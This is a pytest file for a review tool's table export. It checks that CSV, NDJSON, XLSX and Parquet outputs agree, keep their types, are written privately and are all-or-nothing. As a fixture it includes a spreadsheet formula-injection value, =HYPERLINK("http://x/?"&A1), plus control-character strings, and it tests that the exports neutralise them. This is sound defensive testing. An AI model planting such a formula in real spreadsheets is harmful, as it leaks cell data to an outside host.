"""`export --tables`: the same rows in three forms, typed and harmless, all of them or none; and what they answer."""

import csv
import hashlib
import json
import re
import stat
import sys
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from db import judged as straight
from reviewtui.exchange.flat.csv_file import write_csv
from reviewtui.exchange.flat.ndjson_file import write_ndjson
from reviewtui.services.flat.shared import source_of
from reviewtui.services.flat.writing import table_of
from reviewtui.services.judging.judgements import record
from reviewtui.services.store.stores import open_store
from reviewtui.services.undoing import undo
from tests.conftest import INSPECTOR, LEAD, Run
from tests.exported import read
from tests.keyed import PASSPHRASE

GUIDE = Path(__file__).parents[2] / "reviewtui" / "docs" / "tables.md"
FORMULA = '=HYPERLINK("http://x/?"&A1)\nnext line, “quoted”, \x1b[31m'
TYPES = {
    "text": str,
    "integer": int,
    "number": float,
    "boolean": bool,
    "date": str,
    "moment": str,
}


@pytest.fixture
def judged(sample_store: Path, run: Run) -> Path:
    """The sample, with a rationale that a spreadsheet would calculate, and without one of its cases."""
    arguments = ("judge", "NOR-03", "1.1", "good", "--rationale", FORMULA, "--replace")
    assert run(*arguments, store=sample_store, person=INSPECTOR).code == 0
    arguments = ("case", "withdraw", "EST-04", "--reason", "Out of scope.")
    assert run(*arguments, store=sample_store, person=LEAD).code == 0
    arguments = ("moderate", "NOR-02", "2.2", "good", "--reason", "It was heard, and acted on.")
    assert run(*arguments, store=sample_store, person=LEAD).code == 0
    return sample_store


def _rows(folder: Path, name: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (folder / f"{name}.ndjson").read_text("utf-8").splitlines()]


def test_three_forms_hold_the_same_rows_that_keep_their_type_and_no_formula(
    judged: Path, tmp_path: Path, run: Run
) -> None:
    from openpyxl import load_workbook

    for form in ("csv", "ndjson", "xlsx"):
        ran = run("export", "--tables", tmp_path / form, "--format", form, store=judged)
        assert (ran.code, ran.out) == (0, "")
        assert run("export", "--tables", tmp_path / f"{form}2", "--format", form, store=judged).code == 0
        for file in (tmp_path / form).iterdir():
            assert file.read_bytes() == (tmp_path / f"{form}2" / file.name).read_bytes()
    exact, book = tmp_path / "ndjson", load_workbook(tmp_path / "xlsx" / "tables.xlsx")
    described: dict[str, dict[str, dict[str, Any]]] = {}
    for column in _rows(exact, "dictionary"):
        described.setdefault(column["table"], {})[column["column"]] = column
    assert set(described) == {file.stem for file in exact.iterdir()} == set(book.sheetnames)
    for name, columns in described.items():
        rows = _rows(exact, name)
        for row in rows:
            assert list(row) == list(columns)
            for key, value in row.items():
                if value is None:
                    assert columns[key]["null_means"], (name, key)
                else:
                    assert type(value) in (TYPES[columns[key]["type"]], int if key[:3] == "low" else type(value))
        with (tmp_path / "csv" / f"{name}.csv").open(encoding="utf-8", newline="") as file:
            assert [list(columns), *(list(map(_in_csv, row.values())) for row in rows)] == list(csv.reader(file))
        sheet = [list(row) for row in book[name].iter_rows(values_only=True)]
        assert sheet[0] == list(columns)
        assert [list(map(_in_xlsx, row.values())) for row in rows] == sheet[1:]
    said = [row["rationale"] for row in _rows(exact, "judgements")]
    assert FORMULA in said
    (cell,) = [cell for row in book["judgements"] for cell in row if str(cell.value).startswith(FORMULA[:10])]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)


def test_rows_read_straight_off_the_record_are_those_that_are_listed_one_by_one(
    sample_store: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    said = (
        'A\x00 "quoted" \\u0000 end.',
        "=SUM(A1)",
        "＝1, 2",
        "-",
        "Seen,\r\nand “told”, Siân.",
        "\x7f\x1f\\",
        "No {.",
    )
    answered = ("NOR-02", "NOR-03", "CTY-01", "CTY-02", "CTY-03", "GLA-01", "EST-02")
    known = {"responsible": ("yot", "police"), "phase": "after", "reason": 'It\'s "so", \x7f\\ \n“é”.'}
    with closing(open_store(sample_store)) as store:
        for number, (case, rationale) in enumerate(zip(answered, said, strict=True)):
            more: dict[str, Any] = known if number % 2 else {}
            record(store, LEAD, case, "1.1", answer="good", rationale=rationale, replace=True, **more)
        undo(store, LEAD)
        record(store, 'A "B", \x1d', "EST-03", "1.1", answer="good", rationale="Seen.", replace=True)
        with store.read() as connection:
            for table in (table_of(source_of(connection), name) for name in ("judgements", "evidence", "history")):
                for write in (write_ndjson, write_csv):
                    written, one_by_one = list[bytes](), list[bytes]()
                    assert write(written.append, table) == write(one_by_one.append, table._replace(blocks=None)) > 0
                    assert b"".join(written).splitlines() == b"".join(one_by_one).splitlines()
            table = table_of(source_of(connection), "judgements")
            too_long = straight._JUDGED.replace("concat(e.made_at", "concat(zeroblob(1000000001)")
            monkeypatch.setattr(straight, "_JUDGED", too_long)
            assert write_csv(lambda _: None, table) == write_csv(lambda _: None, table._replace(blocks=None))
            rationales = {row["rationale"] for row in table_of(source_of(connection), "judgements").rows()}
    assert {*said[:-1]} < rationales


def test_parquet_holds_the_same_rows_in_types_of_their_own(
    judged: Path, tmp_path: Path, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    import duckdb

    for form in ("ndjson", "parquet"):
        ran = run("export", "--tables", tmp_path / form, "--format", form, store=judged)
        assert (ran.code, ran.out) == (0, "")
    kinds = {"text": "VARCHAR", "integer": "BIGINT", "number": "DOUBLE", "boolean": "BOOLEAN", "date": "DATE"}
    described: dict[str, dict[str, str]] = {}
    for column in _rows(tmp_path / "ndjson", "dictionary"):
        kind = kinds.get(column["type"], "TIMESTAMP WITH TIME ZONE")
        described.setdefault(column["table"], {})[column["column"]] = kind
    duckdb.sql("SET TimeZone = 'UTC'")
    for name, columns in described.items():
        file = tmp_path / "parquet" / f"{name}.parquet"
        found = duckdb.sql(f"SELECT * FROM '{file}'")
        assert dict(zip(found.columns, map(str, found.types), strict=True)) == columns
        said = ", ".join(_as_text(key, kind) for key, kind in columns.items())
        listed = duckdb.sql(f"SELECT {said} FROM '{file}'").fetchall()
        assert listed == [tuple(row.values()) for row in _rows(tmp_path / "ndjson", name)]
    monkeypatch.setitem(sys.modules, "pyarrow", None)  # as where it is not installed
    ran = run("export", "--tables", tmp_path / "without", "--format", "parquet", store=judged)
    assert ran.code == 3
    assert ran.err.endswith("\nParquet needs one more package: run pip install 'reviewtui[parquet]'.\n")
    assert not (tmp_path / "without").exists()


def _as_text(key: str, kind: str) -> str:
    """Days and moments are text in the other forms."""
    if kind == "DATE":
        return f'CAST("{key}" AS VARCHAR)'
    return f"strftime(\"{key}\", '%Y-%m-%dT%H:%M:%SZ')" if kind.startswith("TIME") else f'"{key}"'


def _in_csv(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    text = str(value)
    return f"'{text}" if isinstance(value, str) and text[:1] in tuple("=+-@\t\r\n") and text else text


def _in_xlsx(value: Any) -> Any:
    return value.replace("\x1b", "␛") if isinstance(value, str) else value


def test_rows_say_what_the_export_and_the_verbs_say(judged: Path, tmp_path: Path, run: Run) -> None:
    folder = tmp_path / "out"
    assert run("export", "--tables", folder, "--format", "ndjson", store=judged).code == 0
    document = read(judged)
    same = ("case", "site", "question", "label", "score", "rationale", "inspector", "counts", "entry")
    listed = [{key: item[key] for key in same} for item in document["judgements"]]
    assert [{key: row[key] for key in same} for row in _rows(folder, "judgements")] == listed
    assert len(_rows(folder, "evidence")) == sum(len(item["evidence"]) for item in document["judgements"])
    agreed = {(row["question"], row["answer"], row["reason"], row["counts"]) for row in _rows(folder, "moderation")}
    assert agreed == {("2.2", "good", "It was heard, and acted on.", True)}
    counting = [row for name in ("judgements", "moderation") for row in _rows(folder, name) if row["counts"]]
    shares = {code: node["share"]["good"] for code, node in document["summary"]["questions"].items()}
    assert {code: sum(row["question"] == code and bool(row["good"]) for row in counting) for code in shares} == shares
    assert len(_rows(folder, "events")) == sum(len(case["events"]) for case in document["cases"])
    assert [row["hash"] for row in _rows(folder, "history")] == [item["hash"] for item in document["history"]]
    missed = run("missed", "--json", store=judged).json["findings"]
    assert [(row["case"], row["finding"], row["decision"]) for row in _rows(folder, "findings")] == [
        (one["case"], one["id"], one["decision"]) for one in missed
    ]
    times = run("timeliness", "--json", store=judged).json["timeliness"]
    for row in _rows(folder, "timeliness"):
        result = times[row["measure"]]["cases"][row["case"]]
        assert [row[key] for key in ("value", "verdict", "why")] == [result[key] for key in ("value", "verdict", "why")]
    assert {row["state"] for row in _rows(folder, "cases")} == {"complete", "in_progress", "not_started", "withdrawn"}
    assert [row["withdrawn_because"] for row in _rows(folder, "cases") if row["withdrawn_because"]] == ["Out of scope."]
    summary, whole = document["summary"], [row for row in _rows(folder, "summary") if row["site"] is None]
    assert {row["node"]: row["rating"] for row in whole} == {
        "overall": summary["overall"]["rating"],
        **{code: node["rating"] for code, node in (summary["standards"] | summary["questions"]).items()},
    }


def test_the_files_are_private_noted_and_all_written_or_none(judged: Path, tmp_path: Path, run: Run) -> None:
    folder = tmp_path / "out"
    assert run("export", "--tables", folder, "--for", "Analyst", store=judged).code == 0
    files = {str(file): hashlib.sha256(file.read_bytes()).hexdigest() for file in folder.iterdir()}
    log = run("history", "--access", "--json", store=judged).json["access"]
    assert {line["file"]: line["sha256"] for line in log} == files
    assert {line["whom"] for line in log} == {"Analyst"}
    assert {stat.S_IMODE(Path(file).stat().st_mode) for file in files} == {0o600}
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    (folder / "cases.csv").unlink()
    (folder / "mine.txt").write_text("kept", "utf-8")
    ran = run("export", "--tables", folder, store=judged)
    assert (ran.code, ran.out) == (3, "")
    assert "exists already" in ran.err
    assert not (folder / "cases.csv").exists()
    assert run("export", "--tables", folder, "--force", store=judged).code == 0
    assert {file.name for file in folder.iterdir()} == {*(Path(file).name for file in files), "mine.txt"}
    assert (folder / "mine.txt").read_text("utf-8") == "kept"


def test_what_cannot_be_written_is_one_sentence_and_nothing_is_there(
    judged: Path, keyed: Path, new_store: Path, tmp_path: Path, run: Run
) -> None:
    file, out = tmp_path / "file", tmp_path / "out"
    file.write_text("mine", "utf-8")
    long = ("judge", "NOR-03", "1.1", "good", "--rationale", "x" * 32_768, "--replace")
    assert run(*long, store=judged, person=INSPECTOR).code == 0
    known = tmp_path / "known"
    known.write_text(PASSPHRASE, "utf-8")
    known.chmod(0o600)
    locked = {"env": {"REVIEWTUI_PASSPHRASE_FILE": str(known)}}
    wrong: tuple[tuple[tuple[object, ...], Path, int, str, dict[str, Any]], ...] = (
        (("--tables", file), judged, 3, "is not a folder", {}),
        (("--tables", out, "--format", "xlsx"), judged, 3, "longer than a cell of a workbook", {}),
        (("--tables", out, file), judged, 2, "leave out FILE", {}),
        (("--format", "csv", file), judged, 2, "--format needs --tables", {}),
        (("--tables", tmp_path / "none" / "out"), judged, 5, "could not be written", {}),
        (("--tables", out), new_store, 3, "holds no inspection", {}),
        (("--tables", out), keyed, 2, "The store is encrypted", locked),
    )
    for arguments, store, code, words, more in wrong:
        ran = run("export", *arguments, store=store, **more)
        assert (ran.code, ran.out) == (code, ""), arguments
        assert words in ran.err
    assert file.read_text("utf-8") == "mine"
    assert not out.exists()
    assert not list(tmp_path.glob(".*.part"))


def test_the_guides_five_questions_have_one_answer_in_duckdb_pandas_and_jq(
    judged: Path, tmp_path: Path, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    import duckdb
    import jq
    import pandas

    assert run("export", "--tables", tmp_path / "out", "--format", "ndjson", store=judged).code == 0
    monkeypatch.chdir(tmp_path / "out")

    def table(name: str) -> Any:
        return pandas.read_json(f"{name}.ndjson", lines=True, dtype=False)

    answers = []
    for section in GUIDE.read_text("utf-8").split("\n### ")[1:]:
        blocks = {block[1]: block[2] for block in re.finditer(r"```(sql|python|jq)\n(.*?)```", section, re.DOTALL)}
        answers.append([list(row) for row in duckdb.sql(blocks["sql"]).fetchall()])
        names: dict[str, Any] = {"table": table}
        exec(blocks["python"], names)
        assert names["answer"].reset_index().to_numpy().tolist() == answers[-1]
        program, _, name = blocks["jq"].strip().rpartition("# ")
        assert jq.compile(program).input_value(_rows(Path(), name)).all() == answers[-1]
    assert len(answers) == 5
    share = run("summary", "--json", store=judged).json["questions"]["1.2"]["share"]
    assert [sum(column) for column in list(zip(*answers[0], strict=True))[1:]] == [share["good"], share["applicable"]]
